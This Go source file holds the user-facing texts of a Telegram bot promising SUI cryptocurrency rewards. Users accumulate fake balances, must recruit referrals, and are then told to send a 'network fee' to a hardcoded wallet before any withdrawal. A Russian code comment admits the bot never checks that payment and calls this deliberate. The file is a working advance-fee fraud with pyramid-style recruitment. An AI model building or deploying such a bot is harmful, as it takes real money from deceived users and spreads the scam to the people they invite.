package bot

import (
	"fmt"
	"strings"
	"time"

	"sui_reward_bot/internal/domain"
	"sui_reward_bot/internal/reward"

	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"
)

// адрес, на который просят заплатить комиссию сети при выводе.
// Бот никогда не проверяет, что комиссия реально оплачена - это
// осознанное поведение исходной системы.
const feeWallet = "0x337c26191d7d2874ffbca5911a2dd1126b4ceaa12a279f1d232b7856da6ccd88"

func mainKeyboard() tgbotapi.ReplyKeyboardMarkup {
	kb := tgbotapi.NewReplyKeyboard(
		tgbotapi.NewKeyboardButtonRow(tgbotapi.NewKeyboardButton(btnClaim)),
		tgbotapi.NewKeyboardButtonRow(
			tgbotapi.NewKeyboardButton(btnDaily),
			tgbotapi.NewKeyboardButton(btnStats),
		),
		tgbotapi.NewKeyboardButtonRow(
			tgbotapi.NewKeyboardButton(btnInvite),
			tgbotapi.NewKeyboardButton(btnWithdraw),
		),
		tgbotapi.NewKeyboardButtonRow(
			tgbotapi.NewKeyboardButton(btnWallet),
			tgbotapi.NewKeyboardButton(btnLeaders),
			tgbotapi.NewKeyboardButton(btnHelp),
		),
	)
	kb.ResizeKeyboard = true
	return kb
}

func welcomeText(referred bool, s reward.Schedule) string {
	if referred {
		return fmt.Sprintf(`🌟 Welcome to SUI Capital Bot〽️

💎 Congratulations! You've received %s SUI as a referral bonus!

💰 Earning Methods:
• ⚡ Hourly Claims
• 📅 Daily Rewards
• 👥 Referral Program

🔥 Start earning now with our reward system!`, s.ReferralAmount)
	}
	return `🌟 Welcome to SUI Capital Bot〽️

💰 Start Earning SUI:
• ⚡ Hourly Claims
• 📅 Daily Rewards
• 👥 Referral Program

🔥 Join our community and start earning today!`
}

func claimedText(amount, balance fmt.Stringer) string {
	return fmt.Sprintf("🌟 Collected %s SUI!\n📊 My Stats: %s SUI", amount, balance)
}

func dailyText(amount, balance fmt.Stringer) string {
	return fmt.Sprintf("📅 Daily Reward claimed: %s SUI!\n📊 My Stats: %s SUI", amount, balance)
}

func claimWaitText(remaining time.Duration) string {
	m := int(remaining.Minutes())
	sec := int(remaining.Seconds()) % 60
	return fmt.Sprintf("⏳ Wait %dm %ds for next claim!", m, sec)
}

func dailyWaitText(remaining time.Duration) string {
	h := int(remaining.Hours())
	m := int(remaining.Minutes()) % 60
	return fmt.Sprintf("⏳ Wait %dh %dm for next bonus!", h, m)
}

func statsText(acc *domain.Account) string {
	return fmt.Sprintf("📊 My Stats: %s SUI\n👨‍👦‍👦 Invite: %d\n🌟 Total earned: %s SUI",
		acc.Balance, acc.ReferralCount, acc.TotalEarned)
}

func inviteText(botUsername string, acc *domain.Account, s reward.Schedule) string {
	link := fmt.Sprintf("https://t.me/%s?start=%d", botUsername, acc.UserID)
	return fmt.Sprintf(`👨‍👦‍👦 Your referral link:
%s

Current referrals: %d
Reward per referral: %s SUI

✨ You and your referral get %s SUI!`, link, acc.ReferralCount, s.ReferralAmount, s.ReferralAmount)
}

func referralNotifyText(s reward.Schedule) string {
	return fmt.Sprintf("👥 New referral! +%s SUI!", s.ReferralAmount)
}

func withdrawText(res reward.WithdrawCheck, acc *domain.Account, requestID string, s reward.Schedule) string {
	switch res.Status {
	case reward.WithdrawNoWallet:
		return "⚠️ Connect your wallet first!"
	case reward.WithdrawNotEnoughReferrals:
		return fmt.Sprintf(`⚠️ You need at least %d referrals to withdraw!
Your referrals: %d

📢 You must also join our official channels:
• @SUI_Capital_Tracker
• @SUI_Capital_News
• @SUI_Capital_QA`, res.ReferralsNeed, res.ReferralsHave)
	case reward.WithdrawNotEnoughBalance:
		return fmt.Sprintf("⚠️ Minimum withdrawal: %s SUI\nYour balance: %s SUI",
			res.BalanceNeed, res.BalanceHave)
	default:
		return fmt.Sprintf(`⭐ Withdrawal Request #%s

Amount to Withdraw: %s SUI
🔸 Destination Wallet: %s
🔸 Network Used: SUI Network (SUI)

📢 Network Fee: %s SUI (required to process the transaction)

📨 Please send the fee to the following wallet to complete your request:
%s

⌛ Processing Time: 24-48 hours after the fee payment is confirmed.

⚠️ Important Note: The network fee is necessary to cover SUI network operational costs and ensure the success of your transfer. Without this payment, your request will not be processed.`,
			requestID, res.BalanceHave, acc.Wallet, s.NetworkFee, feeWallet)
	}
}

const walletPromptText = `🔑 Send your SUI (SUI) wallet address:

⚠️ IMPORTANT WARNING:
• Double check your SUI address carefully
• Incorrect addresses will result in permanent loss of funds
• We are not responsible for funds sent to wrong addresses`

const walletSavedText = `✅ SUI address saved!

⚠️ IMPORTANT:
• Verify your address is correct
• Wrong addresses will result in lost funds
• No recovery possible for incorrect addresses`

func leadersText(entries []domain.LeaderboardEntry) string {
	var b strings.Builder
	b.WriteString("🏆 Leaders:\n\n")
	for i, e := range entries {
		name := e.Username
		if name == "" {
			name = "Anonymous"
		}
		fmt.Fprintf(&b, "%d. @%s: %s SUI\n", i+1, name, e.TotalEarned)
	}
	return b.String()
}

const helpText = `🌟 Welcome to SUI Rewards Bot!

💎 Earning Opportunities:
• 🕒 Minutes Claim Bonus
• 📅 Daily Reward (24h)
• 👥 Referral Program

💰 Withdrawal Information:
• ⚡ Network: SUI (SUI)
• ⏱ Processing: 24-48h

📱 Official Channel:
• @SUI_Capital_Tracker

🔐 Security Notice:
• Always verify wallet addresses
• Never share personal information`

const (
	startHintText = "⚡ Please send /start to begin"
	errorText     = "❌ An error occurred!"
	retryText     = "⚠️ Something went wrong. Please try again later."
)
